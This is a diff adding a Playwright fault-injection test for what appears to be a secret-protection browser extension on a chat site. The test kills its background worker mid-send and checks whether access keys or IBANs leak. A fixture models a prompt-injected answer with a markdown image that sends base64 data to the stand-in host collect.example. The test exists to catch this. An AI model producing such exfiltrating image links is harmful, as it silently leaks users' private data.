@@ -1,0 +1,154 @@
+/** Kills the background worker at one point of a check, and looks what has become of the message. */
+import type { Page } from "@playwright/test";
+import { ACCESS_KEY, CLIENT, KEY_PROMPT } from "../../tour/values";
+import { answers } from "../../../test/support/chat-page";
+import { killWorker } from "../../../test/support/extension";
+import { bodyOf, sendByWorker } from "../../../test/support/relay";
+import { pause } from "../../../test/support/wait-for";
+import type { Bench } from "./bench";
+import { freezeAt, untilFrozen } from "./freeze";
+import { lostWords, type Seen } from "./judge";
+import type { Doing, Point } from "./points";
+import { arrivals, send, stillAnswers, textsOf, untilRest, type Rest } from "./user";
+
+const PROMPT = "/backend-api/f/conversation";
+const REACHED_MS = 25_000;
+/** A file is judged while its page does nothing. */
+const MOST_RESTS = 8;
+const ACCOUNT_PROMPT = `Write a friendly reminder that the money goes to ${CLIENT.iban} before Friday.`;
+/** What a planted instruction would make an answer carry away. */
+const CARRIED = "bWVldGluZyBub3RlcyBvZiB0aGUgbmV3IHdhcmVob3VzZSBhbmQgaXRzIGJ1ZGdldA";
+const LEAKING = `Here it is. ![](https://collect.example/p.png?d=${CARRIED}) Done.`;
+
+/** What the user does, and what must be kept and must not pass by it. */
+interface Work {
+  readonly written: string;
+  readonly secrets: readonly string[];
+  run(page: Page): Promise<Rest | null>;
+}
+
+export async function killAt(bench: Bench, point: Point): Promise<Seen> {
+  const { context, chat, id, own } = bench;
+  const fault = `worker killed: ${point.name}`;
+  chat.clear();
+  const worker = await bench.freshWorker();
+  await freezeAt(worker, own, point.place);
+  const page = await bench.open();
+  const { written, secrets, run } = WORK[point.doing](bench);
+  const [reached, rest] = await Promise.all([
+    untilFrozen(own, REACHED_MS).then(
+      () => killWorker(context, id),
+      () => false,
+    ),
+    run(page),
+  ]);
+  await pause(200); // what was let go by the fault arrives
+  const lost =
+    written === ""
+      ? 0
+      : lostWords({
+          written,
+          composer: rest?.composer ?? "",
+          sent: textsOf(chat),
+          replaceable: [{ value: CLIENT.iban, type: "IBAN" }],
+        });
+  const silentPasses = arrivals(chat, secrets) + leaked(page);
+  const answersStill = rest?.rested !== false && (await stillAnswers(page, chat));
+  await page.close();
+  return {
+    fault,
+    happened: reached,
+    lostWords: lost,
+    silentPasses,
+    hungPages: answersStill ? 0 : 1,
+    ...(point.hole === undefined ? {} : { hole: point.hole }),
+    note: describeRest(rest),
+  };
+}
+
+const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
+  "a key": () => message(KEY_PROMPT, ACCESS_KEY, "nothing"),
+  "an account": () => message(ACCOUNT_PROMPT, CLIENT.iban, "safe"),
+  "a file": () => ({
+    written: "",
+    secrets: [ACCESS_KEY],
+    async run(page) {
+      await page.setInputFiles("#upload-files", {
+        name: "settings.txt",
+        mimeType: "text/plain",
+        buffer: Buffer.from(`region = eu-central-1\naws_access_key_id = ${ACCESS_KEY}\n`),
+      });
+      const chip = page.locator("#attachments span");
+      for (let nth = 0; ; nth++) {
+        const rest = await untilRest(page, 0, "nothing");
+        const ended = !/…$/u.test(await chip.innerText());
+        if (ended || nth > MOST_RESTS) return { ...rest, rested: rest.rested && ended };
+      }
+    },
+  }),
+  "an account, read back": () => {
+    const sending = message(ACCOUNT_PROMPT, CLIENT.iban, "safe");
+    return {
+      ...sending,
+      async run(page) {
+        const rest = await sending.run(page);
+        await page.locator(".prose").click();
+        await page.keyboard.press("Alt+ArrowDown");
+        return rest;
+      },
+    };
+  },
+  "an answer": ({ chat }) => ({
+    written: "",
+    secrets: [],
+    async run(page) {
+      chat.script("leak", { type: "text/event-stream", pieces: [`data: ${LEAKING}\n\n`] });
+      const answer = await page.evaluate(async (path) => {
+        const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
+        const response = await fetch(`${path}?script=leak`, { method: "POST", body });
+        return response.text();
+      }, PROMPT);
+      shown.set(page, answer);
+      return untilRest(page, 0, "nothing");
+    },
+  }),
+  "a worker of the page": () => ({
+    written: "",
+    secrets: [CLIENT.iban],
+    async run(page) {
+      const url = new URL(PROMPT, page.url()).href;
+      await sendByWorker(page, "dedicated", { url, body: bodyOf(ACCOUNT_PROMPT) });
+      return untilRest(page, 0, "nothing");
+    },
+  }),
+};
+
+/** Answers as their page got them. */
+const shown = new WeakMap<Page, string>();
+
+function leaked(page: Page): number {
+  return shown.get(page)?.includes(CARRIED) ? 1 : 0;
+}
+
+function message(text: string, secret: string, wants: "safe" | "nothing"): Work {
+  return {
+    written: text,
+    secrets: [secret],
+    async run(page) {
+      const before = await answers(page);
+      await send(page, text);
+      return untilRest(page, before, wants);
+    },
+  };
+}
+
+function describeRest(rest: Rest | null): string {
+  if (!rest) return "";
+  if (!rest.rested) return "did not come to rest";
+  const asked = rest.dialogs.length;
+  const unchecked = rest.dialogs.some(({ text }) => /could not be checked/iu.test(text));
+  const where = rest.composer === "" ? "" : "text back in the composer";
+  return [asked > 0 ? `asked ${asked} ×` : "", unchecked ? "fallback: asked" : "", where]
+    .filter((part) => part !== "")
+    .join(", ");
+}
